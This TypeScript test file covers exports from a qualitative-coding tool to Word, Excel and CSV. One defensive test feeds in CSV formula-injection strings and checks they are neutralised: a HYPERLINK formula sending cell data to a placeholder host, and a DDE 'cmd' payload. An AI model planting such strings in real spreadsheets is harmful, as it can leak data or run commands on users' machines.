import Papa from 'papaparse';
import mammoth from 'mammoth';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { codebookTable } from '../../../src/coding/codebook-export';
import { codeCounts } from '../../../src/coding/counts';
import { retrievalDocument, retrievalTable } from '../../../src/coding/retrieval-export';
import type { RetrievedQuote } from '../../../src/coding/retrieval';
import { tableToCsv } from '../../../src/export/csv';
import { documentToDocx } from '../../../src/export/docx';
import type { Code } from '../../../src/model/types';
import { createTranslator } from '../../../src/i18n';
import { tableToXlsx } from '../../../src/export/xlsx';
import ExcelJS from 'exceljs';

const code = (id: string, name: string, parentId: string | null, order: number, description = ''): Code => ({
  id,
  projectId: 'p',
  parentId,
  name,
  color: '#000',
  description,
  inclusion: '',
  exclusion: '',
  example: '',
  order,
});
const codes = [
  code('rel', 'Componente relacional', null, 0, 'Cómo se vincula la profesional con la familia.'),
  code('trust', 'Confianza', 'rel', 0),
  code('chal', 'Desafíos', null, 1),
];
const quote = (codeId: string, text: string, citation: string, sourceName = 'ARIII_telefonica'): RetrievedQuote =>
  ({
    codeId,
    codeIds: [codeId],
    segmentIds: [],
    sourceId: sourceName,
    sourceName,
    sourceKind: 'phone interview',
    caseNames: ['ARIII'],
    start: 10,
    end: 10 + text.length,
    text,
    before: '',
    after: '',
    paragraph: 3,
    citation,
    coderIds: ['ana'],
  }) as RetrievedQuote;
const quotes = [
  quote('trust', 'le cuentan cosas que a mí no me cuentan', '(TMD, 8)'),
  quote('chal', 'El registro y la planificación', '(DRC, 9)'),
  quote('trust', 'hay más cercanía', '(ARIII, 3)'),
];

async function wordText(bytes: Uint8Array): Promise<string> {
  return (await mammoth.extractRawText({ buffer: Buffer.from(bytes) })).value;
}

describe('exporting retrieved quotes to Word', () => {
  it('groups quotes by code, each with its citation, accents intact', async () => {
    const bytes = await documentToDocx(retrievalDocument(quotes, codes, 'Segmentos codificados', 'Proyecto ViDA'));
    const text = await wordText(bytes);
    expect(text).toContain('Segmentos codificados');
    const trust = text.indexOf('Componente relacional › Confianza (2)');
    const chal = text.indexOf('Desafíos (1)');
    expect(trust).toBeGreaterThan(-1);
    expect(chal).toBeGreaterThan(trust);
    expect(text).toContain('“le cuentan cosas que a mí no me cuentan” (TMD, 8)');
    expect(text.indexOf('“El registro y la planificación” (DRC, 9)')).toBeGreaterThan(chal);
  });
});

describe('exporting the codebook to Word', () => {
  it('writes a real Word table with a repeated header row, the codes indented by level, in Spanish', async () => {
    const es = createTranslator('es');
    const table = codebookTable(codes, codeCounts(codes, []), es);
    const bytes = await documentToDocx({ title: 'Libro de códigos', blocks: [{ kind: 'table', table, number: 1 }] }, es);
    const xml = new TextDecoder().decode(unzipSync(bytes)['word/document.xml']);
    expect(xml).toContain('<w:tblHeader/>');
    expect((xml.match(/<w:tr>|<w:tr /g) ?? []).length).toBe(1 + codes.length);
    const html = (await mammoth.convertToHtml({ buffer: Buffer.from(bytes) })).value;
    expect(html).toContain('<table>');
    expect(html).toContain('Cómo se vincula la profesional con la familia.');
    const text = await wordText(bytes);
    expect(text).toMatch(/Tabla 1\s+Libro de códigos/);
    expect(text).toContain('Nota. Los segmentos y las fuentes incluyen los codificados con subcódigos.');
    for (const heading of ['Código', 'Descripción', 'Incluir cuando', 'Excluir cuando', 'Ejemplo', 'Segmentos', 'Fuentes'])
      expect(html).toContain(`<th><p><strong>${heading}</strong></p></th>`);
  });

  it('writes the same codebook in Portuguese to Word, Excel and CSV, and its headings read back in Portuguese', async () => {
    const pt = createTranslator('pt');
    const table = codebookTable(codes, codeCounts(codes, []), pt);
    expect(table.title).toBe('Livro de códigos');
    const word = await wordText(await documentToDocx({ title: table.title, blocks: [{ kind: 'table', table, number: 2 }] }, pt));
    expect(word).toMatch(/Tabela 2\s+Livro de códigos/);
    expect(word).toContain('Nota. Os segmentos e as fontes incluem os codificados com subcódigos.');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await tableToXlsx(table, pt)).buffer as ArrayBuffer);
    const sheet = book.worksheets[0];
    expect(sheet.name).toBe('Livro de códigos');
    const rows = sheet
      .getSheetValues()
      .filter(Array.isArray)
      .map((r) => r.slice(1));
    expect(rows.find((r) => r[0] === 'Código')?.slice(0, 3)).toEqual(['Código', 'Descrição', 'Incluir quando']);
    expect(rows.some((r) => String(r[0]).startsWith('Nota. Os segmentos'))).toBe(true);
    const csv = new TextDecoder().decode(tableToCsv(table).slice(3));
    expect(csv.split('\r\n')[0]).toBe('Código,Descrição,Incluir quando,Excluir quando,Exemplo,Segmentos,Fontes');
  });
});

describe('exporting retrieved segments to CSV', () => {
  it('writes one row per segment with a byte-order mark, so Excel shows the accents', () => {
    const bytes = tableToCsv(retrievalTable(quotes, { codes, cases: [], attributes: [], coders: [{ id: 'ana', projectId: 'p', name: 'Ana Pérez', color: '' }] }, 'Coded segments'));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = new TextDecoder().decode(bytes.slice(3)).trim().split('\r\n');
    expect(lines[0]).toBe('Code,Source,Case,Start,End,Text,Citation,Coder');
    expect(lines[1]).toBe('Componente relacional › Confianza,ARIII_telefonica,ARIII,10,49,le cuentan cosas que a mí no me cuentan,"(TMD, 8)",Ana Pérez');
    expect(lines).toHaveLength(4);
  });

  it('neutralises cells that a spreadsheet would run as formulas', () => {
    const bytes = tableToCsv({ title: 't', columns: [{ key: 'a', label: 'A' }], rows: [{ key: '1', cells: [{ kind: 'text', text: '=HYPERLINK("x")' }] }] });
    expect(new TextDecoder().decode(bytes.slice(3))).toContain(`"'=HYPERLINK(""x"")"`);
  });

  it('neutralises a multi-line survey answer that opens with a formula, and leaves plain numbers alone', () => {
    const answer = '=HYPERLINK("http://example.invalid/?d="&A1,\n"Ver más")';
    const cells = [answer, "+cmd|' /C calc'!A0\nsegunda línea", '@SUM(1+1)', '\t=1+1', '-3', '+12%', '-2,5', 'La madre = la cuidadora'];
    const bytes = tableToCsv({
      title: 't',
      columns: cells.map((_, i) => ({ key: `c${i}`, label: `C${i}` })),
      rows: [{ key: '1', cells: cells.map((text) => ({ kind: 'text' as const, text })) }],
    });
    const parsed = Papa.parse<string[]>(new TextDecoder().decode(bytes.slice(3)).trim(), { newline: '\r\n' }).data;
    expect(parsed[1]).toEqual([`'${answer}`, `'${cells[1]}`, "'@SUM(1+1)", "'\t=1+1", '-3', '+12%', '-2,5', 'La madre = la cuidadora']);
  });
});

describe('exporting a table to Excel', () => {
  it('writes numbers as numbers, percentages as percentages, and reads back with accents', async () => {
    const ExcelJS = (await import('exceljs')).default;
    const { tableToXlsx } = await import('../../../src/export/xlsx');
    const table = {
      title: 'Frecuencias por capacitación',
      columns: [
        { key: 'code', label: 'Código' },
        { key: 'n1', label: 'n', group: 'Con capacitación', numeric: true },
        { key: 'p1', label: '%', group: 'Con capacitación', numeric: true },
      ],
      rows: [
        {
          key: 'r',
          depth: 1,
          cells: [
            { kind: 'text' as const, text: 'Confianza' },
            { kind: 'number' as const, value: 3 },
            { kind: 'number' as const, value: 37.5, decimals: 1, percent: true },
          ],
        },
      ],
      note: 'Porcentajes de los casos de cada grupo.',
    };
    const bytes = await tableToXlsx(table);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(bytes) as never);
    const sheet = book.worksheets[0];
    expect(sheet.getCell('A1').value).toBe('Frecuencias por capacitación');
    expect(sheet.getCell('B2').value).toBe('Con capacitación');
    expect(sheet.getRow(3).values).toEqual([undefined, 'Código', 'n', '%']);
    expect(sheet.getCell('B4').value).toBe(3);
    expect(sheet.getCell('C4').value).toBe(0.375);
    expect(sheet.getCell('C4').numFmt).toBe('0.0%');
    expect(sheet.getCell('A6').value).toBe('Note. Porcentajes de los casos de cada grupo.');
  });
});

describe('CSV of a table split by a case attribute', () => {
  it('names each group in its columns’ headers, so the pairs of n and % can be told apart', async () => {
    const { frequencyTable } = await import('../../../src/analysis/frequency');
    const { data, training } = await import('../analysis/fixture');
    const csv = new TextDecoder().decode(tableToCsv(frequencyTable(data, { rollUp: true, splitByAttributeId: training.id })));
    const header = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data[0];
    const groups = training.values.map(String);
    expect(header.slice(5)).toEqual(groups.flatMap((g) => [expect.stringMatching(new RegExp(`^${g}: n \\(of \\d+\\)$`)), `${g}: %`]));
  });
});

describe('a table exported to Word for a paper', () => {
  it('holds "Table 1", its title, the table and its note, and no heading above them unless asked', async () => {
    const { frequencyTable } = await import('../../../src/analysis/frequency');
    const { data } = await import('../analysis/fixture');
    const table = { ...frequencyTable(data, { rollUp: true }), title: 'Changes perceived after training', note: 'Counts of cases.' };
    const paper = await wordText(await documentToDocx({ title: table.title, subtitle: 'Proyecto ViDA', showTitle: false, blocks: [{ kind: 'table', table, number: 1 }] }));
    const lines = paper.split('\n').filter((l) => l.trim());
    expect(lines.slice(0, 2)).toEqual(['Table 1', 'Changes perceived after training']);
    expect(paper).not.toContain('Proyecto ViDA');
    expect(lines[lines.length - 1]).toBe('Note. Counts of cases.');
    const withHeading = await wordText(await documentToDocx({ title: table.title, subtitle: 'Proyecto ViDA', blocks: [{ kind: 'table', table, number: 1 }] }));
    expect(withHeading.split('\n').filter((l) => l.trim())[1]).toBe('Proyecto ViDA');
  });
});
